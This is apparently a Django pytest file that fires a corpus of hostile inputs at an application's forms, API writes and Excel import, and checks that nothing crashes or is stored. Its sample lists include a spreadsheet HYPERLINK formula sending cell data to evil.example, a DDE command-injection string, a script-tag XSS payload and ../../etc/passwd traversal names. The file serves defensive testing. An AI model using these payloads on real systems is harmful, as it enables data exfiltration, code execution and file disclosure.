"""The bad-input corpus (issue 9): hostile values thrown at every form, every API write and the
Excel import. Whatever comes in, the answer is never a 5xx, and a refused request stores
nothing (row counts of every model holding case or programme data are unchanged).

Each field gets a sample of the values for its type (text, date, number, choice...), rotated
so every value meets every form and operation at least once, without sending the whole
product; see docs/security/testing.md for what the corpus holds and why.
"""

from __future__ import annotations

import datetime as dt
import html.parser
import io
import itertools
import json
import unicodedata
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from antoan.api.tests.test_cases_helpers import case_body, open_case, send
from antoan.api.tests.test_programme_helpers import activity_body
from antoan.cases import services as case_services
from antoan.health.tests.conftest import api_body as health_body
from antoan.hotline.models import Call
from antoan.jobs.worker import run_pending
from antoan.programme.models import Activity, Checklist, Evidence
from antoan.programme.services import campaigns as campaign_services
from antoan.programme.services import plan_build
from antoan.programme.tests.test_excel_import import COMMUNICATION_ROW, template

pytestmark = pytest.mark.django_db


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


MEGABYTE = "x" * 1_000_000
TEXT = [
    unicodedata.normalize("NFD", "Nguyễn Thị Hoà"),  # decomposed accents (a Mac keyboard)
    "Hoà\u200b\u200c\u200d\ufeffLan",  # zero-width characters
    "\u202egnp.exe",  # right-to-left override: "exe.png" read backwards
    "a\x00b",  # NUL
    MEGABYTE,
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|'/C calc'!A0",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "..\\x.pdf",
    "\ud800",  # a lone surrogate cannot even be stored as UTF-8
]
NUMBERS = ["1" + "0" * 30, "-1", "1e309", "NaN", "0x10", MEGABYTE]
DATES = ["0000-01-01", "9999-12-31", "2025-02-30", "31/12/9999", "01/01/0000", "00/00/0000"]
MOMENTS = ["31/12/9999 23:59", "01/01/0001 00:00", "30/02/2025 10:00", "9999-12-31T23:59"]
CHOICES = ["\x00", "../../etc/passwd", MEGABYTE, "<script>"]

# Every model holding data a request could write; the audit log records refusals on purpose.
DATA_APPS = (
    "cases",
    "hotline",
    "referrals",
    "programme",
    "indicators",
    "accounts",
    "health",
    "reports",
)
NOT_COUNTED = {"core.auditevent", "axes.accessattempt", "axes.accessfailurelog"}


def _counted() -> list[Any]:
    return [
        model
        for app in DATA_APPS
        for model in apps.get_app_config(app).get_models()
        if model._meta.label_lower not in NOT_COUNTED
    ]


def row_counts() -> dict[str, int]:
    """Rows of every counted model, in one query (it runs before and after each request)."""
    models = _counted()
    quote = connection.ops.quote_name
    # Table names come from the models, quoted; nothing from a request reaches this SQL.
    tables = [quote(m._meta.db_table) for m in models]
    sql = "SELECT " + ", ".join(f"(SELECT COUNT(*) FROM {t})" for t in tables)  # noqa: S608
    with connection.cursor() as cursor:
        cursor.execute(sql)
        row = cursor.fetchone()
    return {m._meta.label_lower: n for m, n in zip(models, row, strict=True)}


def sample(values: list[Any], index: int, per_field: int = 2) -> list[Any]:
    """``per_field`` values for the field at ``index``, rotating through the list."""
    return [values[(index * per_field + k) % len(values)] for k in range(per_field)]


def assert_safe(response: Any, before: dict[str, int], what: str, *, page: bool = False) -> None:
    """No 5xx; refused (4xx, or a page form shown again with 200) means nothing stored."""
    assert response.status_code < 500, what
    if response.status_code >= 400 or (page and response.status_code == 200):
        after = row_counts()
        changed = {k: (v, after[k]) for k, v in before.items() if after[k] != v}
        assert not changed, f"{what}: refused ({response.status_code}) but stored {changed}"


# --- Forms ---------------------------------------------------------------------------------------


class FormReader(html.parser.HTMLParser):
    """The fields of the page's POST forms, with the values the page put in them."""

    def __init__(self) -> None:
        super().__init__()
        self.fields: dict[str, tuple[str, Any]] = {}  # name -> (kind, default)
        self.in_post = False
        self.select: str | None = None
        self.textarea: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            self.in_post = a.get("method", "").lower() == "post"
        if not self.in_post or (not a.get("name") and tag != "option"):
            return
        name = a.get("name", "")
        if tag == "input":
            kind = a.get("type", "text").lower()
            if kind in ("submit", "button", "file", "image", "reset"):
                return
            if kind in ("checkbox", "radio"):
                if name not in self.fields or "checked" in a:
                    self.fields[name] = (kind, a.get("value", "on") if "checked" in a else "")
                return
            self.fields[name] = (kind, a.get("value", ""))
        elif tag == "select":
            self.select = name
            self.fields[name] = ("select", "")
        elif tag == "option" and self.select:
            kind, current = self.fields[self.select]
            if (not current or "selected" in a) and a.get("value"):
                self.fields[self.select] = (kind, a["value"])
        elif tag == "textarea":
            self.textarea = name
            self.fields[name] = ("textarea", "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.in_post = False
        elif tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None

    def handle_data(self, data: str) -> None:
        if self.textarea:
            kind, current = self.fields[self.textarea]
            self.fields[self.textarea] = (kind, current + data)


def form_fields(client: Client, url: str) -> dict[str, tuple[str, Any]]:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    reader = FormReader()
    reader.feed(response.content.decode())
    assert reader.fields, f"no POST form on {url}"
    return reader.fields


def values_for(name: str, kind: str) -> list[Any]:
    if kind == "date" or name.endswith(("_on", "_date", "date_from", "date_to")):
        return DATES
    if name.endswith("_at"):
        return MOMENTS
    if kind in ("number", "hidden") or name.endswith(("version", "TOTAL_FORMS", "INITIAL_FORMS")):
        return NUMBERS
    if kind in ("select", "checkbox", "radio"):
        return CHOICES
    return TEXT


def attack_form(client: Client, url: str, *, extra: dict[str, Any] | None = None) -> int:
    """POST the page's form once per sampled value of each field; the number of requests."""
    fields = form_fields(client, url)
    base = {name: default for name, (_kind, default) in fields.items() if default != ""}
    base.update(extra or {})
    sent = 0
    for index, (name, (kind, _default)) in enumerate(sorted(fields.items())):
        if name == "csrfmiddlewaretoken":
            continue
        for value in sample(values_for(name, kind), index, per_field=1):
            if value == "\ud800":
                value = b"\xed\xa0\x80"  # what a browser could send: not UTF-8 at all
            before = row_counts()
            response = client.post(url, {**base, name: value})
            assert_safe(response, before, f"{url} {name}={value[:30]!r}", page=True)
            if kind in ("text", "textarea") and isinstance(value, str) and "\x00" in value:
                # NUL is refused in every text field, never stored.
                assert response.status_code != 302, f"{url} stored {name}={value!r}"
            sent += 1
    return sent


@pytest.fixture
def world(cast, plan64):
    case = open_case(cast["worker1"])
    measure = case_services.measure_request(
        case=case,
        actor=cast["worker1"],
        type="no_contact_commune",
        deciding_body="commune_chair",
        requested_at=timezone.now() - dt.timedelta(hours=1),
    )
    return {"case": case, "measure": measure}


def _clients(cast) -> dict[str, Client]:
    out = {}
    for name in ("worker1", "supervisor1", "hotline1", "reporter1", "coordinator1", "nurse1"):
        client = Client()
        client.force_login(cast[name])
        out[name] = client
    return out


def test_every_case_form_survives_the_corpus(cast, world):
    clients = _clients(cast)
    case, measure = world["case"], world["measure"]
    pages = [
        ("worker1", reverse("cases:intake")),
        ("worker1", reverse("cases:incident_add", args=[case.pk])),
        ("worker1", reverse("cases:assessment_add", args=[case.pk])),
        ("worker1", reverse("cases:safety_plan_add", args=[case.pk])),
        ("worker1", reverse("cases:case_plan_add", args=[case.pk])),
        ("worker1", reverse("cases:follow_up_add", args=[case.pk])),
        ("worker1", reverse("cases:note_add", args=[case.pk])),
        ("worker1", reverse("cases:consent_add", args=[case.pk])),
        ("worker1", reverse("cases:measure_add", args=[case.pk])),
        ("worker1", reverse("cases:measure_decide", args=[case.pk, measure.pk])),
        ("supervisor1", reverse("cases:transfer_request", args=[case.pk])),
        ("worker1", reverse("referrals:new", args=[case.pk])),
        ("worker1", reverse("referrals:service_new", args=[case.pk])),
        ("hotline1", reverse("hotline:new")),
    ]
    sent = sum(attack_form(clients[user], url) for user, url in pages)
    assert sent > 150


def test_the_health_contact_form_survives_the_corpus(cast):
    # Every field of the page is a code or a tick: nothing of the corpus may be stored.
    from antoan.health.models import ServiceContact

    sent = attack_form(_clients(cast)["nurse1"], reverse("health:contact_new"))
    assert sent >= 15
    assert not ServiceContact.objects.exists()


def test_every_programme_form_survives_the_corpus(cast, plan64):
    clients = _clients(cast)
    reporter = clients["reporter1"]
    task = plan64.tasks.order_by("pk").first()
    campaign = campaign_services.campaign_create(
        actor=cast["coordinator1"],
        data=campaign_services.CampaignInput(
            title="Chiến dịch truyền thông",
            start_date=timezone.localdate() + dt.timedelta(days=10),
            end_date=timezone.localdate() + dt.timedelta(days=40),
        ),
    )
    pages = [
        ("coordinator1", reverse("programme:campaign_new")),
        ("coordinator1", reverse("programme:campaign_edit", args=[campaign.pk])),
        ("reporter1", reverse("programme:campaign_item_new", args=[campaign.pk])),
        ("reporter1", reverse("programme:activity_new") + "?kind=training"),
        ("reporter1", reverse("programme:activity_new") + "?kind=inspection"),
        ("reporter1", reverse("programme:activity_new") + "?kind=commendation"),
        ("reporter1", reverse("programme:model_new")),
        ("reporter1", reverse("programme:influencer_new")),
        ("coordinator1", reverse("programme:task", args=[plan64.pk, task.pk])),
    ]
    sent = sum(attack_form(clients[user], url) for user, url in pages)
    assert sent > 100
    assert reporter.get(reverse("programme:activities")).status_code == 200


def test_hostile_file_names_are_never_used_as_paths(cast, plan64, media):
    from antoan.programme.tests.test_views_evidence import png_with_metadata

    reporter = _clients(cast)["reporter1"]
    response = send(reporter, "post", "/api/v1/programme/activities", activity_body())
    assert response.status_code == 201, response.content
    activity = Activity.objects.get()
    names = ["../../etc/passwd.png", "..\\..\\boot.png", "\u202egnp.exe.png", "C:\\x.png"]
    for n, name in enumerate(names):
        image = png_with_metadata()[:-12] + png_with_metadata()[-12:]
        before = row_counts()
        response = reporter.post(
            f"/programme/activities/{activity.pk}/evidence/",
            {"kind": "photo", "file": SimpleUploadedFile(name, image)},
        )
        assert_safe(response, before, name)
        if n == 0:
            assert response.status_code == 302
    for evidence in Evidence.objects.all():
        assert "/" not in evidence.original_name and "\\" not in evidence.original_name
        assert evidence.file.path.startswith(str(media))
        assert "\u202e" not in evidence.original_name


# --- API ----------------------------------------------------------------------------------------


def schema() -> dict[str, Any]:
    from drf_spectacular.generators import SchemaGenerator

    return SchemaGenerator().get_schema(request=None, public=True)


def resolve(spec: dict[str, Any], node: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in node:
        node = spec["components"]["schemas"][node["$ref"].split("/")[-1]]
    if "allOf" in node:
        return resolve(spec, node["allOf"][0])
    if "oneOf" in node:
        return resolve(spec, node["oneOf"][0])
    return node


def example(spec: dict[str, Any], node: dict[str, Any], depth: int = 0) -> Any:
    """A plausible value for a schema node (the corpus then spoils one field at a time)."""
    node = resolve(spec, node)
    if "enum" in node:
        return next((v for v in node["enum"] if v), "")
    kind = node.get("type")
    if kind == "object" or "properties" in node:
        if depth > 3:
            return {}
        return {
            name: example(spec, sub, depth + 1) for name, sub in node.get("properties", {}).items()
        }
    if kind == "array":
        return [example(spec, node.get("items", {}), depth + 1)] if depth < 3 else []
    if kind == "integer":
        return 1
    if kind == "number":
        return 1
    if kind == "boolean":
        return False
    if node.get("format") == "date":
        return (timezone.localdate() - dt.timedelta(days=3)).isoformat()
    if node.get("format") == "date-time":
        return (timezone.localtime() - dt.timedelta(hours=1)).isoformat()
    if node.get("format") == "uuid":
        return "6f1c2b1e-8c47-4d5e-9a0b-1c2d3e4f5a6b"
    return "Nội dung"


def spoilers(spec: dict[str, Any], node: dict[str, Any]) -> list[Any]:
    node = resolve(spec, node)
    kind = node.get("type")
    if "enum" in node:
        return [*CHOICES, 10**30]
    if kind == "integer" or kind == "number":
        return [10**30, -(10**30), 1e308, "NaN", MEGABYTE, True, [1]]
    if kind == "boolean":
        return ["true", 10**30, None, "\x00"]
    if kind == "array":
        return [["\x00"], [10**30], ["x"] * 100_000, "../../etc/passwd", [[[[]]]]]
    if kind == "object" or "properties" in node:
        return [[], "x", {"\x00": 1}, {"a": MEGABYTE}]
    if node.get("format") == "date":
        return [*DATES, 20250101, MEGABYTE]
    if node.get("format") == "date-time":
        return [
            "9999-12-31T23:59:59Z",
            "9999-12-31T23:00:00+07:00",
            "0001-01-01T00:00:00+14:00",
            "2025-02-30T10:00:00+07:00",
            "1899-12-31T10:00:00+07:00",
        ]
    return [*TEXT, 10**30, None]


def leaves(spec: dict[str, Any], node: dict[str, Any], prefix: tuple = ()) -> Iterator[tuple]:
    """(path, node) of every field, one level into nested objects."""
    node = resolve(spec, node)
    for name, sub in node.get("properties", {}).items():
        path = (*prefix, name)
        yield path, sub
        inner = resolve(spec, sub)
        if len(prefix) < 1 and "properties" in inner:
            yield from leaves(spec, inner, path)


def put(body: dict[str, Any], path: tuple, value: Any) -> dict[str, Any]:
    out = json.loads(json.dumps(body))
    target = out
    for key in path[:-1]:
        if not isinstance(target.get(key), dict):
            target[key] = {}
        target = target[key]
    target[path[-1]] = value
    return out


WRITES = ("post", "put", "patch")


def operations(spec: dict[str, Any]) -> Iterable[tuple[str, str, dict[str, Any]]]:
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            if method in WRITES:
                content = op.get("requestBody", {}).get("content", {})
                node = content.get("application/json", {}).get("schema", {})
                yield method, path, node


def test_every_api_write_survives_the_corpus(cast, world, plan64):
    spec = schema()
    clients = _clients(cast)
    anonymous = Client()
    case = world["case"]
    call_id = Call.objects.values_list("pk", flat=True).first() or 1
    # Building a plan: the coordinator's draft of the next plan, so the bodies reach the
    # services (plan 64 is published and refuses every change before reading them).
    draft = plan_build.plan_create(
        actor=cast["coordinator1"],
        copy_from=plan64,
        number="12/KH-UBND",
        title="Dự thảo kế hoạch giai đoạn 2026-2030",
        period_start=dt.date(2026, 1, 1),
        period_end=dt.date(2030, 12, 31),
    )
    ids = {
        "case_id": case.pk,
        "measure_id": world["measure"].pk,
        "transfer_id": 1,
        "call_id": call_id,
        "contact_id": call_id,
        "chat_id": call_id,  # no token: every chat operation answers 404 (its own tests have one)
        "activity_id": 1,
        "campaign_id": 1,
        "model_id": _trusted_address(cast).pk,
        "referral_id": 1,
        "plan_id": draft.pk,
        "task_id": draft.tasks.order_by("pk").first().pk,
    }
    # reporter1's draft of Phố Hiến's 2025 report (plan 64's cycle).
    ids["submission_id"] = _report_draft(cast, plan64).pk
    checklist = Checklist.objects.get(code="dia-chi-tin-cay")
    bases = {
        ("post", "/api/v1/cases"): case_body(),
        ("post", "/api/v1/programme/activities"): activity_body(),
        ("post", "/api/v1/programme/campaigns"): {
            "title": "Chiến dịch truyền thông",
            "start_date": "2026-12-20",
            "end_date": "2027-01-10",
        },
        ("post", "/api/v1/programme/models/{model_id}/assessments"): {
            "checklist": checklist.pk,
            "assessed_on": timezone.localdate().isoformat(),
            "status": "draft",
            "scores": {"A1": {"score": 1, "note": "Quyết định công nhận"}},
        },
        ("post", "/api/v1/programme/models/{model_id}/reviews"): {
            "period_start": "2025-01-01",
            "period_end": "2025-12-31",
            "people_served": 3,
            "survivors_supported": 1,
            "decision": "continue",
            "reasons": "Hoạt động đều.",
        },
        # The nurse's own facility (left out): the schema's example id would be refused first.
        ("post", "/api/v1/health/contacts"): health_body(),
    }
    done = set()
    sent = 0
    for method, path, node in operations(spec):
        user = (
            anonymous
            if path.startswith("/api/v1/auth")
            else clients["hotline1"]
            if "/hotline/" in path
            else clients["coordinator1"]
            if "/programme/campaigns" in path
            or "/programme/models/" in path
            or "/programme/plans" in path
            else clients["reporter1"]
            if "/programme/" in path or "/reports/" in path
            else clients["nurse1"]
            if "/health/" in path
            else clients["worker1"]
        )
        url = path.format(**ids).removesuffix("/")
        base = bases.get((method, path)) or (example(spec, node) if node else {})
        fields = list(leaves(spec, node)) if node else []
        for index, (field, sub) in enumerate(fields):
            # One nasty value per field, rotating through the corpus from field to field, so
            # every value is thrown somewhere and `make test` stays well inside its budget.
            for value in sample(spoilers(spec, sub), index, per_field=1):
                before = row_counts()
                response = send(user, method, url, put(base, field, value))
                assert_safe(response, before, f"{method} {url} {'.'.join(field)}")
                sent += 1
        # A body that is not the expected shape at all.
        for body in ("[]", "null", '"x"', "{", MEGABYTE, json.dumps({"a": "\x00"})):
            before = row_counts()
            assert_safe(send(user, method, url, body), before, f"{method} {url} body")
        done.add((method, path))
    assert len(done) >= 25 and sent > 150


def _report_draft(cast, plan64) -> Any:
    from antoan.accounts.models import Agency
    from antoan.reports import services as report_services

    report_services.ensure_cycles(plan64)
    sub, _ = report_services.submission_open(
        actor=cast["reporter1"],
        cycle=plan64.report_cycles.get(year=2025),
        agency=Agency.objects.get(code="ubnd-pho-hien"),
    )
    return sub


def test_every_reports_form_survives_the_corpus(cast, plan64):
    """The report's page (narratives, numbers, a return reason) and the cycle's editor."""
    clients = _clients(cast)
    sub = _report_draft(cast, plan64)
    pages = [
        ("reporter1", reverse("reports:submission", args=[sub.pk])),
        ("coordinator1", reverse("reports:cycle_edit", args=[sub.cycle_id])),
    ]
    sent = sum(attack_form(clients[user], url) for user, url in pages)
    assert sent > 40
    assert clients["reporter1"].get(reverse("reports:home")).status_code == 200


def _trusted_address(cast) -> Any:
    """A model to assess and review: the standards' API writes belong to the coordinator."""
    from antoan.accounts.models import Agency
    from antoan.programme.services import ModelInput, community_model_save
    from antoan.programme.standards_loader import load_standards

    load_standards(
        sorted((Path(__file__).resolve().parents[2] / "data" / "standards").glob("*.yaml"))
    )
    agency = Agency.objects.get(code="ubnd-pho-hien")
    return community_model_save(
        actor=cast["coordinator1"],
        data=ModelInput(
            kind="trusted_address", name="Địa chỉ tin cậy", place=agency.place, agency=agency
        ),
    )


def test_answers_that_are_not_an_object_are_a_400(cast, world):
    # Found by the corpus: the message "{mã: true/false}" broke DRF's formatting (a 500).
    client = _clients(cast)["worker1"]
    case = world["case"]
    response = send(
        client,
        "post",
        f"/api/v1/cases/{case.pk}/assessments",
        {"answers": [], "immediate_danger": False},
    )
    assert response.status_code == 400
    assert "Cần một đối tượng {mã: true/false}." in json.dumps(response.json(), ensure_ascii=False)


def test_deeply_nested_json_is_a_400(cast, world):
    client = _clients(cast)["worker1"]
    deep = "[" * 100_000 + "]" * 100_000
    response = send(client, "post", f"/api/v1/cases/{world['case'].pk}/notes", deep)
    assert response.status_code == 400


# --- Excel import -------------------------------------------------------------------------------


def test_the_excel_import_survives_the_corpus(cast, plan64):
    reporter = _clients(cast)["reporter1"]
    blank = template(reporter, "communication", plan64)
    columns = ["Tên hoạt động", "Mã nhiệm vụ", "Địa bàn (tên hoặc mã)", "Từ ngày", "Nữ", "Mô tả"]
    cases = [
        (column, value)
        for column, value in zip(
            itertools.cycle(columns), [*TEXT[:-1], *DATES[:3], "1" + "0" * 30], strict=False
        )
    ]
    for n, (column, value) in enumerate(cases):
        wb = openpyxl.load_workbook(io.BytesIO(blank))
        ws = wb["Hoạt động"]
        headers = {cell.value: cell.column for cell in ws[1] if cell.value}
        for header, good in COMMUNICATION_ROW.items():
            ws.cell(row=2, column=headers[header], value=good)
        try:
            ws.cell(row=2, column=headers[column], value=value)
        except openpyxl.utils.exceptions.IllegalCharacterError:
            continue  # openpyxl itself will not write NUL into a file
        out = io.BytesIO()
        wb.save(out)
        name = ["hoat-dong.xlsx", "../../etc/passwd.xlsx", "..\\x.xlsx"][n % 3]
        before = row_counts()
        response = reporter.post(
            reverse("programme_toolkit:import"),
            {
                "kind": "communication",
                "plan": plan64.pk,
                "file": SimpleUploadedFile(name, out.getvalue()),
            },
        )
        refused = False
        if response.status_code == 302:  # queued: the worker checks and imports
            run_pending()
            response = reporter.get(response["Location"])
            refused = "Chưa nhập hoạt động nào" in response.content.decode()
        assert_safe(response, before, f"import {column}={str(value)[:30]!r}", page=refused)
        if str(value).startswith("="):
            assert response.status_code == 400 or refused  # a formula is never imported
